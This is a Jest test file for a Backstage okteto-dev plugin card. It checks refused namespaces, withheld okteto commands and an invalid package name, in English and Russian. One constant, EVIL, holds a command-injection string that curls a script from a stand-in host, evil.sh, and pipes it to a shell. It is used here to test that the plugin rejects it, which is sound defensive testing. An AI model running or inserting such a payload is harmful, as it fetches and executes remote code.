import {
  devMessage,
  DevStatus,
  withoutCommandAdvice,
} from '@okteto-dev/plugin-okteto-dev-common';
import { renderInTestApp } from '@backstage/frontend-test-utils';
import { EntityProvider } from '@backstage/plugin-catalog-react';
import { screen } from '@testing-library/react';
import {
  expandSection,
  renderCard,
  renderStatus,
  renderStatusInRussian,
  russianAppConfig,
  wholeText,
} from '../../__testUtils__/renderCard';
import { oktetoDevApiRef } from '../../api';
import {
  FakeOktetoDevApi,
  fixtures,
  makeEntity,
  refusalError,
} from '../../testing/fixtures';
import { EntityOktetoDevCard } from './EntityOktetoDevCard';
import { withoutDevEntry } from '../../testing/scenarioParts';

// full card renders; a shared CI machine can be slow
jest.setTimeout(30_000);

const EVIL = 'x;curl${IFS}-s${IFS}evil.sh|sh;#';

const refusals = [
  devMessage('targetNamespaceRefused', {
    value: 'kube-system',
    source: 'okteto-dev/namespace',
    allowed: 'web-corporate-dev, web-*-dev',
  }),
];

async function refusedApi() {
  return new FakeOktetoDevApi({
    error: await refusalError(refusals),
  });
}

/** A conflict whose Application deploys elsewhere: the guard withholds every command. */
function guarded(): DevStatus {
  const { commands, ...status } = fixtures.conflictAutoSync;
  expect(commands).toBeDefined();
  return {
    ...status,
    drift: withoutCommandAdvice(status.drift),
    guard: [
      devMessage('guardDestinationNamespace', {
        application: 'argo/web-corporate-dev',
        destination: 'shop-production',
        namespace: 'web-corporate-dev',
      }),
    ],
  };
}

describe('the card and the dev target', () => {
  beforeEach(() => localStorage.clear());

  it('shows a refused target: what was asked, by which annotation, what is allowed', async () => {
    await renderCard({ api: await refusedApi() });
    expect(
      await screen.findByText('okteto-dev read nothing for this entity'),
    ).toBeInTheDocument();
    expect(
      screen.getByText(
        'Namespace kube-system (from okteto-dev/namespace) is not one okteto-dev may read for this entity; the configuration allows web-corporate-dev, web-*-dev. Nothing was read.',
      ),
    ).toBeInTheDocument();
    expect(screen.getByRole('alert')).toHaveTextContent('oktetoDev.targets');
  });

  it('shows it in Russian', async () => {
    renderInTestApp(
      <EntityProvider entity={makeEntity()}>
        <EntityOktetoDevCard />
      </EntityProvider>,
      {
        config: russianAppConfig,
        apis: [[oktetoDevApiRef, await refusedApi()]],
      },
    );
    expect(
      await screen.findByText('okteto-dev ничего не читал для этой сущности'),
    ).toBeInTheDocument();
    expect(
      screen.getByText(
        'Namespace kube-system (из okteto-dev/namespace) не входит в то, что okteto-dev может читать для этой сущности; конфигурация разрешает web-corporate-dev, web-*-dev. Ничего не прочитано.',
      ),
    ).toBeInTheDocument();
  });

  it('withholds every command when the guard says so, and says why at the top', async () => {
    await renderStatus(guarded());
    expect(screen.getByText('Commands withheld')).toBeInTheDocument();
    expect(
      screen.getByText(
        'No okteto up, okteto down or scaling command is offered: argo/web-corporate-dev deploys to namespace shop-production, not to the dev target web-corporate-dev.',
      ),
    ).toBeInTheDocument();
    // the conflict is explained, without the advice to run okteto down or scale
    expect(
      screen.getByText(/No command to end it is offered here/),
    ).toBeInTheDocument();
    const commands = await expandSection('Commands');
    for (const command of ['okteto up', 'okteto down']) {
      expect(
        screen.queryByText(
          wholeText(
            `${command} web-corporate-dev --namespace web-corporate-dev`,
          ),
        ),
      ).not.toBeInTheDocument();
    }
    expect(screen.queryAllByRole('button', { name: /^Copy/ })).toEqual([]);
    // the reason is said once, at the top; the section points there
    expect(
      commands.getByText(
        'No command is offered: the reason is at the top of the card.',
      ),
    ).toBeInTheDocument();
    expect(
      screen.getAllByText(/deploys to namespace shop-production/),
    ).toHaveLength(1);
  });

  it('withholds them in Russian too', async () => {
    await renderStatusInRussian(guarded());
    expect(screen.getByText('Команды не предлагаются')).toBeInTheDocument();
    expect(
      screen.getByText(
        'Команды okteto up, okteto down и масштабирования не предлагаются: argo/web-corporate-dev развёртывает в namespace shop-production, а не в namespace dev-цели web-corporate-dev.',
      ),
    ).toBeInTheDocument();
    expect(screen.queryAllByRole('button', { name: /^Скопировать/ })).toEqual(
      [],
    );
  });

  it('offers okteto up and down but no dev command for a package name that failed its check', async () => {
    const base = withoutDevEntry();
    await renderStatus({
      ...base,
      target: {
        ...base.target,
        package: EVIL,
        sources: { ...base.target.sources, package: 'package-json' },
      },
      commands: { ...base.commands!, dev: undefined },
      guard: [
        devMessage('commandPackageInvalid', {
          value: EVIL,
          source: 'apps/corporate-website/package.json',
        }),
      ],
    });
    // okteto up and down are offered: nothing at the top; why the dev command is missing is said
    // where it would be
    expect(screen.queryByText('Commands withheld')).not.toBeInTheDocument();
    expect(screen.queryByText(/No command to run the app/)).toBeNull();
    const commands = await expandSection('Commands');
    expect(
      commands.getByText(
        `No command to run the app is offered: the package name ${EVIL} (from apps/corporate-website/package.json) is not a valid npm package name.`,
      ),
    ).toBeInTheDocument();
    expect(screen.getAllByText(/No command to run the app/)).toHaveLength(1);
    expect(
      commands
        .getAllByRole('button', { name: /^Copy/ })
        .map(b => b.getAttribute('aria-label')),
    ).toEqual(['Copy: Start dev mode', 'Copy: Stop dev mode']);
  });

  it('says why in Russian too, in the commands', async () => {
    await renderStatusInRussian(fixtures.packageInvalid);
    expect(screen.queryByText('Команды не предлагаются')).toBeNull();
    const commands = await expandSection('Команды');
    expect(
      commands.getByText(
        `Команда запуска приложения не предлагается: имя пакета ${EVIL} (из apps/corporate-website/package.json) — недопустимое имя npm-пакета.`,
      ),
    ).toBeInTheDocument();
  });

  it('runs the app with the repository’s package manager and says where that came from', async () => {
    const base = withoutDevEntry();
    await renderStatus({
      ...base,
      target: {
        ...base.target,
        packageManager: { name: 'yarn', source: 'lockfile', file: 'yarn.lock' },
        notes: [
          devMessage('packageManagerLockfile', {
            manager: 'yarn',
            path: 'yarn.lock',
          }),
        ],
      },
      commands: {
        ...base.commands!,
        dev: `yarn workspace ${base.target.package} dev`,
      },
    });
    const commands = await expandSection('Commands');
    expect(
      commands.getByText(
        wholeText(`yarn workspace ${base.target.package} dev`),
      ),
    ).toBeInTheDocument();
    expect(
      commands.getByText(
        'The dev command uses yarn: the repository has yarn.lock.',
      ),
    ).toBeInTheDocument();
  });
});
